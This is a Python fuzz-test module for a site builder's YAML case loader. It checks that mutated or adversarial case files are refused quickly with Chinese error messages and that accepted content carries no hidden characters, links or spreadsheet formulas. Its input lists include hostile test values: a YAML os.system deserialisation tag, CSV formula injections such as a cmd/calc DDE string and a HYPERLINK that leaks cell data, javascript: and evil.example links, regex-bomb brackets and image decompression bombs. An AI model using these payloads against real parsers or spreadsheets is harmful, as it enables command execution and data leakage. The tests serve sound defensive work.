"""Bounded fuzzing of the case loader: mutated real cases never crash, hang or speak English.

Each run applies 1-3 random mutations (fixed seed, so failures reproduce) to one of the real
cases in ``cases/``: byte flips, deleted/duplicated/swapped lines, indentation changes, full-width
punctuation, deep nesting, huge and non-finite numbers, odd Unicode (bidi, fillers, controls,
emoji, line separators), truncation, CRLF/CR/BOM, YAML features (anchors, tags, documents),
and the attack round's kinds: a key indented into the block above, character references to
invisible characters, nested-bracket bombs, spreadsheet formulas, huge lists, links in text.
Every mutated file must give either a valid case or located Chinese errors (the loader's and the
lint errors the build also enforces), within a time bound; what is accepted must be whole: no
invisible character on the rendered page, no link, no cell a spreadsheet runs, no list or text
past its limit, and no Markdown link search per bracket.
"""

from __future__ import annotations

import random
import re
import time
from pathlib import Path

import pytest
from markdown import inlinepatterns
from pydantic import BaseModel

from site_builder.casefile.loader import load_cases
from site_builder.casefile.models import Case
from site_builder.casefile.vocab import load_vocabularies
from site_builder.casefile.yamlio import MAX_FILE_BYTES, parse_text
from site_builder.checks.lint import find_swallowed_keys, lint_errors
from site_builder.outputs.export import FORMULA_STARTS, csv_cell
from site_builder.pages.markup import render_markdown
from site_builder.textnorm import find_invisible

ROOT = Path(__file__).resolve().parents[2]
CASES = sorted((ROOT / "cases").glob("*.yaml"))
SEED = 20261130
RUNS = 600
PER_FILE_SECONDS = 2.0  # the slowest mutation takes ~0.2 s alone; room for a loaded shared machine
ADVERSARIAL_SECONDS = 5.0  # 250 KB of pathological input: ~1 s alone
_ENGLISH = re.compile(r"found|expected|while |Node\(|<unicode|Traceback|Error\b|scanning|parsing")
_CJK = re.compile(r"[\u4e00-\u9fff]")

ODD = [
    "\u202e",
    "\u202d",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u3164",
    "\u2800",
    "\u00ad",
    "\u3000",
    "\u00a0",
    "\u2028",
    "\x85",
    "\x00",
    "\x01",
    "\x7f",
    "\x1b",
    "\ud7ff",
    "\ue000",
    "🏍",
    "🇨🇳",
    "❤\ufe0f",
    "é",
    "\u0301",
    "\U000e0041",
    "\\0",
    "\\x01",
    "\\u202e",
    "\\ud83d",
    "：",
    "，",
    "、",
    "“",
    "”",
    "［",
    "］",
    "｛",
    "＃",
    "！",
    "？",
    "……",
    "**",
    "`",
    "[x](javascript:1)",
]
SCALARS = [
    "1e999",
    "-1e999",
    ".nan",
    ".inf",
    "0x1F",
    "1_000",
    "9" * 4301,
    "1" * 5000,
    "~",
    "yes",
    "no",
    "null",
    '""',
    "''",
    '"\\ud800"',
    "2023-02-30",
    "[]",
    "{}",
    "[a, , b]",
    "- x",
    "|",
    ">",
    "*alias",
    "&anchor x",
    "!!python/object/apply:os.system [ls]",
    "!custom x",
    '"unclosed',
    "'unclosed",
    "a: b: c",
    "{a: [b, {c: d}]}",
    "　　　",
    "x" * 3000,
]


REFERENCES = ["&#x202e;", "&#X202E;", "&#8203;", "&#0;", "&ZeroWidthSpace;", "&rlm;", "&#65279;", "&#x1D173;"]
BRACKET_BOMBS = ["[" * 6000, "[^" * 2000, "([" * 2000, "[a](" * 1200, "[[a]" * 1000, "[a]: [" * 700]
FORMULAS = [
    '=HYPERLINK("h"&"ttp://x/?"&A2,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "  =1+1",
    "\t=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
LINKS = [
    "[详情](https://evil.example/x)",
    "<https://evil.example>",
    "www.evil.example",
    "https://evil.example",
    "[a]: https://evil.example",
    '<a href="https://evil.example">点此</a>',
]
BLOCK_KEYS = ("background", "practice", "results", "insights", "how_to")


def _swallow(lines: list[str], rng: random.Random) -> None:
    """Indent a top-level key that follows a block scalar, and its own lines, one step too far."""
    starts = [
        k
        for k in range(1, len(lines))
        if re.match(r"^[a-z_]+:", lines[k]) and any(lines[j].endswith(("|", "|-", ">")) for j in range(k))
    ]
    if not starts:
        return
    k = rng.choice(starts)
    end = next((m for m in range(k + 1, len(lines)) if re.match(r"^[a-z_]+:", lines[m])), len(lines))
    for m in range(k, end):
        lines[m] = "  " + lines[m]


def _mutate(text: str, rng: random.Random) -> str:
    lines = text.split("\n")
    op = rng.randrange(26)
    i = rng.randrange(len(lines)) if lines else 0
    if op == 0 and text:
        data = bytearray(text.encode("utf-8", "surrogatepass"))
        k = rng.randrange(len(data))
        data[k] ^= 1 << rng.randrange(8)
        return data.decode("utf-8", "replace")
    if op == 1 and lines:
        del lines[i]
    elif op == 2 and lines:
        lines.insert(i, lines[i])
    elif op == 3 and len(lines) > 1:
        j = rng.randrange(len(lines))
        lines[i], lines[j] = lines[j], lines[i]
    elif op == 4 and lines:
        delta = rng.choice([-3, -2, -1, 1, 2, 3])
        lines[i] = " " * delta + lines[i] if delta > 0 else lines[i][-delta:]
    elif op == 5 and lines:
        lines[i] = lines[i].replace(": ", rng.choice(["：", ":", ":　", " : ", "：　"]), 1)
    elif op == 6 and lines:
        lines[i] = "\u3000" * rng.randint(1, 3) + lines[i].lstrip(" ")
    elif op == 7 and lines:
        table = str.maketrans({",": "，", "[": "［", "]": "］", '"': "“", ":": "：", "-": "－"})
        lines[i] = lines[i].translate(table)
    elif op == 8:
        depth = rng.choice([9, 50, 1000, 20000])
        lines.insert(i, "tags: " + rng.choice("[{") * depth + "x" + rng.choice("]}") * depth)
    elif op == 9 and lines:
        head = lines[i].split(": ", 1)[0]
        lines[i] = f"{head}: {rng.choice(SCALARS)}"
    elif op == 10 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(ODD) + lines[i][k:]
    elif op == 11:
        return text[: rng.randrange(len(text) + 1)]
    elif op == 12:
        return rng.choice(["\r\n", "\r"]).join(lines)
    elif op == 13:
        return "\ufeff" + text
    elif op == 14 and lines:
        lines[i] = "\t" + lines[i]
    elif op == 15:
        lines.insert(i, rng.choice(["---", "...", "%YAML 1.1", "? complex", "<<: *x", "[a, b]: c"]))
    elif op == 16 and lines:
        lines[i] = lines[i].replace("  - ", rng.choice(["  -", " - ", "    - ", "-  "]), 1)
    elif op == 17 and lines:
        lines[i] = lines[i].replace("  ", rng.choice(["", " ", "    ", "\u3000"]), 1)
    elif op == 18:
        lines.insert(i, "".join(chr(rng.randrange(0x20, 0x2FFFF)) for _ in range(rng.randint(1, 40))))
    elif op == 19 and lines:
        lines[i] = lines[i].replace('"', "", 1) if '"' in lines[i] else lines[i].replace(": ", ': "', 1)
    elif op == 20:
        _swallow(lines, rng)
    elif op == 21 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(REFERENCES) + lines[i][k:]
    elif op == 22:
        blocks = [
            k for k, line in enumerate(lines) if line.startswith("  ") and k and lines[k - 1].endswith("|")
        ]
        if blocks:
            k = rng.choice(blocks)
            lines[k] += rng.choice(BRACKET_BOMBS)
    elif op == 23:
        items = [k for k, line in enumerate(lines) if re.match(r"^  - [^:]+$", line)]
        formula = rng.choice(FORMULAS).replace('"', "'")
        if items:
            lines[rng.choice(items)] = f'  - "{formula}"'
        else:
            lines.insert(i, f'organizations: ["{formula}"]')
    elif op == 24:
        key = rng.choice(["tags", "groups", "organizations", "related", "awards"])
        count = rng.choice([11, 21, 500, 5000])
        lines.insert(i, f"{key}: [" + ", ".join(f"t{n}" for n in range(count)) + "]")
    elif op == 25 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(LINKS) + lines[i][k:]
    return "\n".join(lines)


def _cases() -> list[tuple[int, Path, str]]:
    rng = random.Random(SEED)
    out = []
    for n in range(RUNS):
        source = rng.choice(CASES)
        text = source.read_text(encoding="utf-8")
        for _ in range(rng.randint(1, 3)):
            text = _mutate(text, rng)
        out.append((n, source, text))
    return out


def test_mutated_cases_never_crash_hang_or_speak_english(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    vocab = load_vocabularies()
    searches = [0]
    original = inlinepatterns.LinkInlineProcessor.handleMatch

    def counted(self: inlinepatterns.LinkInlineProcessor, m: re.Match[str], data: str) -> object:
        searches[0] += 1
        return original(self, m, data)

    monkeypatch.setattr(inlinepatterns.LinkInlineProcessor, "handleMatch", counted)
    slowest = 0.0
    outcomes = {"valid": 0, "refused": 0}
    for n, source, text in _cases():
        folder = tmp_path / f"run{n}"
        folder.mkdir()
        target = folder / source.name
        target.write_bytes(text.encode("utf-8", "surrogatepass"))
        start = time.perf_counter()
        result = load_cases([target.relative_to(tmp_path)], vocab=vocab, check_images=False, parallel=False)
        elapsed = time.perf_counter() - start
        slowest = max(slowest, elapsed)
        assert elapsed < PER_FILE_SECONDS, f"run {n} ({source.name}) took {elapsed:.1f} s"
        line_count = text.replace("\r\n", "\n").replace("\r", "\n").count("\n") + 1
        errors = [e for e in result.errors if e.severity == "error" and "related" not in e.field]
        errors += lint_errors(result.cases, result.positions)  # validate, build and preview enforce these
        if not errors:
            outcomes["valid"] += 1
            for case in result.cases:
                for value in _strings(case.model_dump()):
                    assert value.strip(), f"run {n}: a blank value was accepted"
                    assert not find_invisible(value), f"run {n}: invisible characters accepted in {value!r}"
                    assert "\ufffd" not in value, f"run {n}: a lost character accepted in {value!r}"
                _assert_whole(n, case, searches)
            continue
        outcomes["refused"] += 1
        for e in errors:
            shown = e.format()
            assert "\n" not in shown, shown
            assert 1 <= e.location.line <= line_count, (n, shown)
            assert e.location.col >= 1, (n, shown)
            assert _CJK.search(e.message), (n, shown)
            assert not _ENGLISH.search(e.message), (n, shown)
            assert len(e.message) < 400, (n, shown)
    assert outcomes["refused"] > RUNS // 2
    assert outcomes["valid"] > 0


def _assert_whole(n: int, case: Case, searches: list[int]) -> None:
    """An accepted case is published as written: nothing hidden, linked, run, swallowed or unbounded."""
    for key in BLOCK_KEYS:
        text = getattr(case, key)
        if not text:
            continue
        assert not find_swallowed_keys(text), f"run {n}: a key was swallowed into {key}"
        before = searches[0]
        html = render_markdown(text)
        assert searches[0] - before <= text.count("]("), f"run {n}: {key} searched for links per bracket"
        assert not find_invisible(html) and "\ufffd" not in html, f"run {n}: {key} renders a hidden character"
        assert "<a " not in html, f"run {n}: {key} renders a link"
    for key, info in Case.model_fields.items():
        value = getattr(case, key)
        limit = next(
            (getattr(m, "max_length", None) for m in info.metadata if hasattr(m, "max_length")), None
        )
        if limit is not None and isinstance(value, str | list):
            assert len(value) <= limit, f"run {n}: {key} is longer than {limit}"
        cell = csv_cell(key, value)
        assert cell[:1] not in FORMULA_STARTS and cell.lstrip()[:1] not in FORMULA_STARTS, f"run {n}: {key}"
        for item in value if isinstance(value, list) else []:
            if isinstance(item, BaseModel):
                for sub in _strings(item.model_dump()):
                    assert len(sub) <= 1000, f"run {n}: a {key} value of {len(sub)} characters"


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


ADVERSARIAL = {
    "flow nesting 100,000 deep": "tags: " + "[" * 100_000 + "x" + "]" * 100_000,
    "block nesting 500 deep": "\n".join("  " * i + f"k{i}:" for i in range(500)) + " x",
    "18,000 keys without a space after the colon": "\n".join(f"title:abc{i}" for i in range(18_000)),
    "20,000 full-width colons": "\n".join(f"k{i}：abc" for i in range(20_000)),
    "20,000 unclosed quotes": "\n".join(f'k{i}: "abc' for i in range(20_000)),
    "20,000 ragged indents": "\n".join(" " * (i % 7) + f"k{i}: v" for i in range(20_000)),
    "10,000 unindented blocks": "\n".join(f"k{i}: |\nabc" for i in range(10_000)),
    "5,000-digit year": "year: " + "9" * 5_000,
    "80,000-character title": "title: " + "长" * 80_000,
}


@pytest.mark.parametrize("name", list(ADVERSARIAL))
def test_adversarial_files_under_the_size_cap_are_refused_quickly(name: str) -> None:
    text = ADVERSARIAL[name]
    assert len(text.encode("utf-8")) <= MAX_FILE_BYTES
    start = time.perf_counter()
    doc, errors = parse_text(text, "cases/x.yaml")
    assert time.perf_counter() - start < ADVERSARIAL_SECONDS
    assert errors or doc is not None
    for e in errors:
        assert _CJK.search(e.message) and not _ENGLISH.search(e.message), e.format()


# --- photos: work bombs of random shapes are refused from their structure ------------------------


def _bomb(rng: random.Random) -> tuple[str, bytes]:
    from site_builder.media import photos
    from tests.support import bombs

    kind = rng.randrange(6)
    if kind == 0:
        size = (rng.choice([64, 300, 1200]), rng.choice([48, 200, 900]))
        return "scan.jpg", bombs.progressive_scan_repeat(size, photos.MAX_JPEG_SCANS + rng.randint(0, 400))
    if kind == 1:
        size = (rng.choice([64, 256]), rng.choice([64, 128]))
        repeats = photos.MAX_JPEG_SCANS + rng.randint(0, 200)
        return "dc-scan.jpg", bombs.progressive_scan_repeat(size, repeats, scan=0)
    if kind == 2:
        marker = rng.choice([0xFE, 0xE1, 0xE2, 0xEB, 0xEF])
        return "markers.jpg", bombs.jpeg_many_markers(
            photos.MAX_SEGMENTS + rng.randint(1, 5000), marker=marker
        )
    if kind == 3:
        chunk = rng.choice([b"prVt", b"tEXt", b"zTXt", b"iTXt", b"sPLT"])
        return "chunks.png", bombs.png_many_chunks(photos.MAX_SEGMENTS + rng.randint(1, 5000), chunk)
    if kind == 4:
        depth, colour = rng.choice([(16, 6), (16, 2), (16, 4)])
        channels = {6: 4, 2: 3, 4: 2}[colour]
        side = int((photos.MAX_DECODED_BYTES / (channels * 2)) ** 0.5) + rng.randint(10, 500)
        side = min(side, int(photos.MAX_PIXELS**0.5))
        return "inflate.png", bombs.png_inflate_bomb(side, side, depth, colour)
    return "chunks.webp", bombs.webp_many_chunks(photos.MAX_SEGMENTS + rng.randint(1, 5000))


def test_image_bombs_of_random_shapes_are_refused_before_decoding(tmp_path: Path) -> None:
    from site_builder.media import photos

    rng = random.Random(SEED)
    photos.stats.reset()
    photos.use_photo_cache(None)  # an in-process build earlier in the session may have set one
    for n in range(24):
        name, data = _bomb(rng)
        path = tmp_path / f"{n}-{name}"
        path.write_bytes(data)
        photos._check_cache.clear()
        reason = photos.check_image(path)
        if reason is None and name == "inflate.png":
            continue  # at the limit for its colour type: allowed, and its decode is bounded by the limit
        assert reason is not None and _CJK.search(reason) and not _ENGLISH.search(reason), (n, name, reason)
    assert photos.stats.decodes == 0
